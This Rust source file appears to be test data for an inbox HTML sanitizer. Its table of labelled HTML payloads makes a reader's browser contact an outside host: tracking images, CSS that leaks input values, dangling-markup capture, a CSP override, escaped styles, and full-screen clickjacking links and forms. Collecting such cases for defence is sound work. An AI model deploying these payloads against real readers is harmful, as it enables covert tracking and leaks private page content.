//! HTML that tries to make the reader's browser request something from another host, or only connect to it. A sender
//! learns the reader's address and the time of reading.

use super::Harm::{self, Fetches, Hints, Nothing};
use super::Part::{self, Body, Click, Link};

pub(crate) const FETCHING: &[(&str, Harm, Part)] = &[
    // Pictures and sounds.
    ("img", Fetches, Body("<img src=http://{out}/>")),
    ("img-https", Hints, Body("<img src=https://{out}/>")),
    (
        "img-srcset",
        Fetches,
        Body(r#"<img srcset="http://{out}/1 1x, http://{out}/2 2x">"#),
    ),
    (
        "picture",
        Fetches,
        Body("<picture><source srcset=http://{out}/><img></picture>"),
    ),
    ("img-dangling", Fetches, Body("<img src='http://{out}/?<p>secret</p>'>")),
    (
        "img-with-own-policy",
        Fetches,
        Body(r#"<meta http-equiv=Content-Security-Policy content="default-src *"><img src=http://{out}/>"#),
    ),
    (
        "img-against-a-base",
        Fetches,
        Body("<base href=http://{out}/><img src=x>"),
    ),
    (
        "video-poster",
        Fetches,
        Body("<video poster=http://{out}/ width=9 height=9></video>"),
    ),
    (
        "video",
        Fetches,
        Body("<video src=http://{out}/ autoplay muted></video>"),
    ),
    ("audio", Fetches, Body("<audio src=http://{out}/ autoplay></audio>")),
    (
        "input-image",
        Fetches,
        Body("<form><input type=image src=http://{out}/></form>"),
    ),
    ("body-background", Fetches, Body("<body background=http://{out}/>")),
    (
        "table-background",
        Fetches,
        Body("<table background=http://{out}/><td background=http://{out}/>a"),
    ),
    (
        "svg-image",
        Fetches,
        Body("<svg><image href=http://{out}/ width=9 height=9 /></svg>"),
    ),
    (
        "svg-fe-image",
        Fetches,
        Body(
            r#"<svg><filter id=f><feImage href="http://{out}/"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>"#,
        ),
    ),
    // Styles.
    (
        "style-import",
        Fetches,
        Body(r#"<style>@import "http://{out}/";</style>"#),
    ),
    (
        "style-url",
        Fetches,
        Body("<style>body{background:url(http://{out}/)}</style>"),
    ),
    (
        "style-escaped",
        Fetches,
        Body(r"<style>body{b\61 ckground:\75rl(http://{out}/)}</style>"),
    ),
    (
        "style-attribute",
        Fetches,
        Body(r#"<p style="background:image-set('http://{out}/' 1x)">a"#),
    ),
    (
        "style-font",
        Fetches,
        Body("<style>@font-face{font-family:f;src:url(http://{out}/)}p{font-family:f}</style><p>a"),
    ),
    (
        "style-list",
        Fetches,
        Body("<ul style='list-style-image:url(http://{out}/)'><li>a</ul>"),
    ),
    (
        "style-reads-a-value",
        Fetches,
        Body("<style>input[value^=s]{background:url(http://{out}/s)}</style><input value=secret>"),
    ),
    // Links that the browser follows by itself.
    (
        "link-stylesheet",
        Fetches,
        Body("<link rel=stylesheet href=http://{out}/>"),
    ),
    (
        "link-preload",
        Fetches,
        Body("<link rel=preload as=image href=http://{out}/>"),
    ),
    ("link-prefetch", Fetches, Body("<link rel=prefetch href=http://{out}/>")),
    (
        "link-modulepreload",
        Fetches,
        Body("<link rel=modulepreload href=http://{out}/>"),
    ),
    (
        "link-preconnect",
        Hints,
        Body("<link rel=preconnect href=http://{out}/>"),
    ),
    (
        "link-preconnect-slashes",
        Hints,
        Body(r#"<LiNK/REL="preconnect"/HREF="http://{out}/">"#),
    ),
    (
        "link-preconnect-in-svg",
        Hints,
        Body("<svg><foreignObject><link rel=preconnect href=http://{out}/></foreignObject></svg>"),
    ),
    (
        "link-preconnect-in-shadow",
        Hints,
        Body("<div><template shadowrootmode=open><link rel=preconnect href=http://{out}/></template></div>"),
    ),
    (
        "link-preconnect-in-srcdoc",
        Hints,
        Body(r#"<iframe srcdoc="&lt;link rel=preconnect href=http://{out}/&gt;"></iframe>"#),
    ),
    (
        "link-preconnect-in-noscript",
        Nothing,
        Body("<noscript><link rel=preconnect href=http://{out}/></noscript>"),
    ),
    (
        "link-dns-prefetch",
        Hints,
        Body("<link rel=dns-prefetch href=//{out}/>"),
    ),
    (
        "link-prerender",
        Nothing,
        Body("<link rel=prerender href=http://{out}/>"),
    ),
    // As a page of its own it would fetch; the inbox also shows a message as a page of its own.
    (
        "speculation-rules",
        Nothing,
        Body(
            r#"<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://{out}/"], "eagerness": "immediate"}]}</script>"#,
        ),
    ),
    ("script-src", Fetches, Body("<script src=http://{out}/></script>")),
    (
        "refresh",
        Fetches,
        Body(r#"<meta http-equiv=refresh content="0;url=http://{out}/">"#),
    ),
    // Documents from outside.
    ("iframe", Fetches, Body("<iframe src=http://{out}/></iframe>")),
    (
        "frameset",
        Fetches,
        Body("<frameset><frame src=http://{out}/></frameset>"),
    ),
    (
        "object",
        Fetches,
        Body("<object type=text/html data=http://{out}/></object>"),
    ),
    ("embed", Fetches, Body("<embed src=http://{out}/>")),
    // Clicks that replace the page under its reader, or send a form.
    (
        "link-self",
        Fetches,
        Link(r#"<a style="position:fixed;inset:0" target=_self href=http://{out}/>a</a>"#),
    ),
    (
        "link-top",
        Fetches,
        Link(r#"<a style="position:fixed;inset:0" target=_top href=http://{out}/>a</a>"#),
    ),
    (
        "link-parent",
        Fetches,
        Link(r#"<a style="position:fixed;inset:0" target=_parent href=http://{out}/>a</a>"#),
    ),
    (
        "form",
        Fetches,
        Click(
            r#"<form action=http://{out}/ target=_top><input name=a value=b><button style="position:fixed;inset:0">a</button></form>"#,
        ),
    ),
    (
        "form-in-new-tab",
        Fetches,
        Click(
            r#"<form action=http://{out}/ target=_blank><button style="position:fixed;inset:0" formmethod=post>a</button></form>"#,
        ),
    ),
];
